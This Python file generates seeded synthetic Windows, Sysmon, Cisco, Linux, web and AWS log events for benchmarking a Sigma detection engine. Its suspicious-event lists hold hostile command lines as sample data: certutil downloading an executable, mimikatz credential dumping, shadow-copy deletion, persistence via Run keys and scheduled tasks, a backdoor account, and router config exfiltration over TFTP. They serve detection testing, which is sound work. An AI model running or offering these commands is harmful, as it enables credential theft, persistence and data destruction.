# SPDX-License-Identifier: Apache-2.0
"""Events of known shapes, made from a seed: the same bytes on every machine.

The shapes, sizes and rates of suspicious events are those of the lanes that rsigma publishes figures
for (scripts/perf of timescale/rsigma); names and values are our own and invented. Whoever has that
generator gives its output by $RSIGMA_LANES instead, and the table says which was used.
"""
import json
import pathlib
import random

SYSTEM = r"C:\Windows\System32"
PROGRAMS = r"C:\Program Files"
QUIET_COMMANDS = [
    rf"{SYSTEM}\svchost.exe -k LocalService -p -s nsi",
    r"hostname /fqdn",
    rf'"{PROGRAMS}\Karte\Client\karte.exe" --station=ward3',
    rf"{SYSTEM}\conhost.exe 0xffffffff -ForceV1",
    rf'"{PROGRAMS}\Libre\program\soffice.bin" --norestore',
    rf"{SYSTEM}\taskhostw.exe KEYROAMING",
    rf"{SYSTEM}\spoolsv.exe",
    rf'"{PROGRAMS}\Dicom\Viewer\viewer.exe" /study:1041',
]
LOUD_COMMANDS = [
    r"powershell.exe -w hidden -nop -enc VwByAGkAdABlAC0ASABvAHMAdAAgADEA",
    r"rundll32.exe javascript:\..\mshtml.dll,RunHTMLApplication",
    r"certutil.exe -urlcache -f http://192.0.2.77/a.exe C:\Users\Public\a.exe",
    r"whoami /all",
    r"mimikatz.exe sekurlsa::logonpasswords exit",
    r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v w /d C:\Users\Public\w.exe",
    r"wmic process call create C:\Users\Public\w.bat",
    r"cmd.exe /c vssadmin delete shadows /all /quiet",
    r"schtasks /create /tn W /tr C:\Users\Public\w.exe /sc onlogon /ru SYSTEM",
    r"net user w Passw0rd! /add",
]
PARENTS = [rf"{SYSTEM}\services.exe", r"C:\Windows\explorer.exe", rf"{SYSTEM}\cmd.exe",
           rf"{SYSTEM}\WindowsPowerShell\v1.0\powershell.exe", rf"{SYSTEM}\userinit.exe"]
USERS = [r"NT AUTHORITY\SYSTEM", r"BYOIN\ward3", r"BYOIN\reception", r"BYOIN\svc-backup",
         r"NT AUTHORITY\LOCAL SERVICE"]
HOSTS = ["ward3-pc1", "ward3-pc2", "srv-karte", "srv-dc", "pharm-pc1"]
QUIET_FILES = [
    r"C:\Users\ward3\Documents\roster.xlsx",
    r"C:\Users\ward3\Downloads\timetable.pdf",
    r"C:\Users\ward3\AppData\Local\Temp\viewer_setup.log",
    r"C:\ProgramData\Karte\cache\000123.dat",
    r"C:\Windows\Temp\MpSigStub.log",
]
LOUD_FILES = [
    r"C:\Users\ward3\Downloads\order.pdf.exe",
    r"C:\Users\ward3\Downloads\letter.docx.scr",
    r"C:\Users\Public\w.exe",
    r"C:\Users\ward3\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\w.exe",
]
QUIET_ORDERS = ["show version", "show clock", "show interfaces status", "ping 192.0.2.1",
                "show vlan", "show inventory", "traceroute 192.0.2.10", "show ip arp"]
LOUD_ORDERS = ["show running-config", "clear logging", "no logging console",
               "crypto key generate rsa modulus 2048", "copy running-config tftp://192.0.2.9/rc",
               "monitor capture point ip cef cap1 GigabitEthernet0/1 both"]


def digits(rng, count):
    return f"{rng.getrandbits(4 * count):0{count}x}"


def guid(rng):
    return "-".join(digits(rng, count) for count in (8, 4, 4, 4, 12))


def moment(rng):
    return f"{rng.randrange(24):02d}:{rng.randrange(60):02d}:{rng.randrange(60):02d}"


def pick(rng, rate, loud, quiet):
    return rng.choice(loud if rng.random() < rate else quiet)


def process(rng, rate):
    """Process creation as Sysmon tells it, without its channel."""
    command = pick(rng, rate, LOUD_COMMANDS, QUIET_COMMANDS)
    image = command.split('"')[1] if command[0] == '"' else command.split()[0]
    if not image.startswith("C:"):
        image = f"{SYSTEM}\\{image}"
    return {
        "EventID": 1, "Image": image, "CommandLine": command, "ParentImage": rng.choice(PARENTS),
        "ParentCommandLine": rng.choice(QUIET_COMMANDS), "User": rng.choice(USERS),
        "IntegrityLevel": rng.choice(["Medium", "High", "System"]),
        "CurrentDirectory": "C:\\Windows\\system32\\", "LogonId": f"0x{digits(rng, 5)}",
        "ProcessId": rng.randrange(1000, 65000), "ParentProcessId": rng.randrange(1000, 65000),
        "ProcessGuid": guid(rng), "Hashes": f"SHA256={digits(rng, 64).upper()}",
        "OriginalFileName": image.rsplit("\\", 1)[-1], "Computer": rng.choice(HOSTS),
        "UtcTime": f"2026-11-22 {moment(rng)}.{rng.randrange(1000):03d}",
        "product": "windows", "category": "process_creation",
    }


def raw_process(rng, rate):
    """The same as text in one member, as a syslog agent forwards it."""
    event = process(rng, rate)
    host = event["Computer"]
    text = (f"<131>Nov 22 {moment(rng)} {host} MSWinEventLog\t1\tSecurity\t{rng.randrange(10**9)}\t"
            f"Sun Nov 22 11:28:00 2026\t4688\tMicrosoft-Windows-Security-Auditing\t{event['User']}\t"
            f"N/A\tSuccess Audit\t{host}\tProcess Creation\t\tA new process has been created.   "
            f"Creator Subject:   Security ID:  {event['User']}   Account Name:  {host}$   Account "
            f"Domain:  BYOIN   Logon ID:  {event['LogonId']}   Target Subject:   Security ID:  "
            f"NULL SID   Account Name:  -   Account Domain:  -   Logon ID:  0x0   Process "
            f"Information:   New Process ID:  {event['ProcessId']:#x}   New Process Name:  "
            f"{event['Image']}   Token Elevation Type:  %%1936   Mandatory Label:  Mandatory Label"
            f"\\Medium Mandatory Level   Creator Process ID:  {event['ParentProcessId']:#x}   Creator "
            f"Process Name:  {event['ParentImage']}   Process Command Line:  {event['CommandLine']}"
            f"\t{rng.randrange(10**7)}")
    return {"message": text, "product": "windows"}


def file_created(rng, rate):
    host = rng.choice(HOSTS)
    return {
        "EventID": "11", "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Provider_Name": "Microsoft-Windows-Sysmon", "Computer": host,
        "Image": rng.choice([r"C:\Windows\explorer.exe", rf"{SYSTEM}\svchost.exe",
                             rf"{PROGRAMS}\Karte\Client\karte.exe"]),
        "TargetFilename": pick(rng, rate, LOUD_FILES, QUIET_FILES),
        "CreationUtcTime": f"2026-11-22 {moment(rng)}.{rng.randrange(1000):03d}",
        "ProcessGuid": guid(rng), "ProcessId": rng.randrange(1000, 65000),
        "User": f"{host}\\ward3", "product": "windows", "category": "file_event",
    }


def router_order(rng, rate):
    text = (f"<189>Nov {rng.randrange(1, 29)} {moment(rng)} {rng.choice(['core1', 'core2', 'edge'])} "
            f"%AAA-5-USER_LOGGED: User {rng.choice(['netadmin', 'vendor', 'backup'])} executed: "
            f"{pick(rng, rate, LOUD_ORDERS, QUIET_ORDERS)}")
    return {"message": text, "product": "cisco", "service": "aaa"}


def system_call(rng):
    return {"type": "SYSCALL", "syscall": rng.choice(["59", "42", "322"]),
            "exe": rng.choice(["/usr/bin/bash", "/usr/bin/curl", "/usr/sbin/sshd"]),
            "comm": rng.choice(["bash", "curl", "sshd"]), "uid": str(rng.randrange(2000)),
            "auid": str(rng.randrange(1000, 2000)), "tty": rng.choice(["pts0", "(none)"]),
            "key": rng.choice(["exec", "network", "(null)"]), "product": "linux"}


def page_request(rng):
    return {"c-ip": f"192.0.2.{rng.randrange(1, 255)}", "cs-method": rng.choice(["GET", "POST"]),
            "cs-uri-query": rng.choice(["/index.html", "/yoyaku?id=42", "/login", "/app.js"]),
            "sc-status": rng.choice([200, 200, 301, 404, 500]),
            "cs-user-agent": rng.choice(["Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "curl/8.5.0"]),
            "product": "webserver", "category": "webserver"}


def cloud_call(rng):
    return {"eventSource": rng.choice(["s3.amazonaws.com", "iam.amazonaws.com"]),
            "eventName": rng.choice(["GetObject", "PutObject", "CreateUser", "DescribeInstances"]),
            "awsRegion": rng.choice(["ap-northeast-1", "us-east-1"]),
            "sourceIPAddress": f"198.51.100.{rng.randrange(1, 255)}",
            "userIdentity": {"type": "IAMUser", "userName": rng.choice(["deploy", "admin"])},
            "product": "aws", "service": "cloudtrail"}


def nothing(rng):
    return {f"f{i}": digits(rng, 24) for i in range(8)} | {"product": "synthetic"}


def mixture(rng):
    makers = (lambda r: process(r, 0.02), system_call, page_request, cloud_call)
    return rng.choice(makers)(rng)


LANES = {
    "structured_windows": lambda rng: process(rng, 0.02),
    "sysmon_file_event": lambda rng: file_created(rng, 0.05),
    "raw_windows": lambda rng: raw_process(rng, 0.10),
    "cisco_syslog": lambda rng: router_order(rng, 0.10),
    "no_match": nothing,
    "match_heavy": lambda rng: process(rng, 0.80),
    "mixed_schema": mixture,
}


def write_lane(name, path, count):
    rng = random.Random(f"lane {name}")
    with pathlib.Path(path).open("w", encoding="utf-8") as out:
        for _ in range(count):
            out.write(json.dumps(LANES[name](rng), separators=(",", ":")) + "\n")
